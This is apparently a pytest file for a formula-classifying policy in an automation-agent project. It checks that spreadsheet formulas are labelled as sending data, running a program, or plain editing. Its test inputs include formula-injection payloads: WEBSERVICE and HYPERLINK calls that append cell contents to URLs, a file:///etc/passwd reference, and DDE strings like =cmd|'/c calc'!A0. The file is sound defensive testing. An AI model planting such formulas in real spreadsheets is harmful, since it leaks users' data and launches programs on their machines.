"""Formulas are judged by what they reach, and formulas that only reckon need no question."""

from __future__ import annotations

import pytest

from ufo.schema.action_class import ActionClass
from ufo.tools.policy.programs.formulas import class_of_formula


@pytest.mark.parametrize(
    "text",
    [
        '=WEBSERVICE("http://e/"&A1)', "= webservice (A1)", "+WebService(A1)", "-WEBSERVICE(A1)", "@WEBSERVICE(A1)",
        "=COM.MICROSOFT.WEBSERVICE(A1)", "=_xlfn.WEBSERVICE(A1)", "=ＷＥＢＳＥＲＶＩＣＥ(A1)", "=WEB\u200bSERVICE(A1)",
        "=WEBDIENST(A1)", "=IF(1;WEBSERVICE(A1);2)", "=webs", '=FILTERXML(A1;"//a")', '=IMPORTDATA("http://x")',
        '=IMPORTRANGE("k","A1")', '=IMAGE("https://x/"&A1)', "='file:///etc/passwd'#$Sheet1.A1", "='http://x/y.ods'#$A.A1",
        "=[book.xlsx]Sheet1!A1", "='[book.xlsx]Sheet 1'!A1", "='C:\\a\\[b.xlsx]S'!A1", "='\\\\host\\share\\[b.xlsx]S'!A1",
        "=[1]Sheet1!A1", "={'file:///x.ods'#Sheet1.A1}", '=HYPERLINK("http://e/?"&A1;"x")', "=HYPERLINK(A1)",
        '=HYPERLINK(CONCATENATE("http://e/";A1))', '=HYPERLINK("vnd.sun.star.script:x")',
        '=INDIRECT("\'fi"&"le:///x.ods\'#$Sheet1.A1")', "=INDIRECT(CHAR(39)&CHAR(102)&A1)", '=FOO("https://x/"&A1)',
        'a,b\n1,"=WEBSERVICE(""http://e"")"\n', "1\t=WEBSERVICE(A1)", "  \n=WEBSERVICE(A1)", '"=WEBSERVICE(A1)"',
        "of:=WEBSERVICE([.A1])", "=SUM(1\n;WEBSERVICE(A1))",
    ],
)  # fmt: skip
def test_a_formula_that_reaches_out_sends(text: str) -> None:
    assert class_of_formula(text) is ActionClass.SEND


@pytest.mark.parametrize(
    "text",
    ['=DDE("soffice";"/x";"A1")', "=cmd|'/c calc'!A0", "+cmd|' /C notepad'!'A1'", "@SUM(1+1)*cmd|'x'!A1", "=RTD(A1)",
     '=CALL("k","f")', '=EXEC("x")', "a;=dde(A1)", "=MSEXCEL|'\\..\\x.exe'!''"],
)  # fmt: skip
def test_a_formula_that_starts_a_program_runs_one(text: str) -> None:
    assert class_of_formula(text) is ActionClass.RUN_PROGRAM


@pytest.mark.parametrize(
    "text",
    [
        "=SUM(A1:A3)", '=IF(A1>3,"yes","no")', "=A1-B1", "-3.5", "+49 123 456", "=VLOOKUP(A1;$Sheet2.A1:B3;2;0)",
        "=SUM(Table1[Unit.Price])", '=TEXT(A1,"#,##0.00")', '=TEXT(A1;"#$")', '=CONCATENATE("see http notes";A1)',
        '=INDIRECT("A"&ROW())', '=HYPERLINK("https://example.org","Site")', '=IF(A1="a|b!c";1;2)', "=Sheet1!A1", "=$Sheet2.A1",
        "WEBSERVICE is a function", "see http://x.example", "", "=", "@home", "=A1&\"file\"", "=CODE(A1)", "=CHAR(65)",
        '=SUBSTITUTE(A1;"a";"b")',
    ],
)  # fmt: skip
def test_a_formula_that_only_reckons_is_an_edit(text: str) -> None:
    assert class_of_formula(text) is ActionClass.EDIT


def test_outside_of_sheets_a_sign_at_the_beginning_makes_no_formula() -> None:
    assert class_of_formula("- Call (the plumber)", in_sheet=False) is ActionClass.EDIT
    assert class_of_formula("buy milk, -call(Ada)", in_sheet=False) is ActionClass.EDIT
    assert class_of_formula('=IMPORTDATA("https://x/"&A1)', in_sheet=False) is ActionClass.SEND
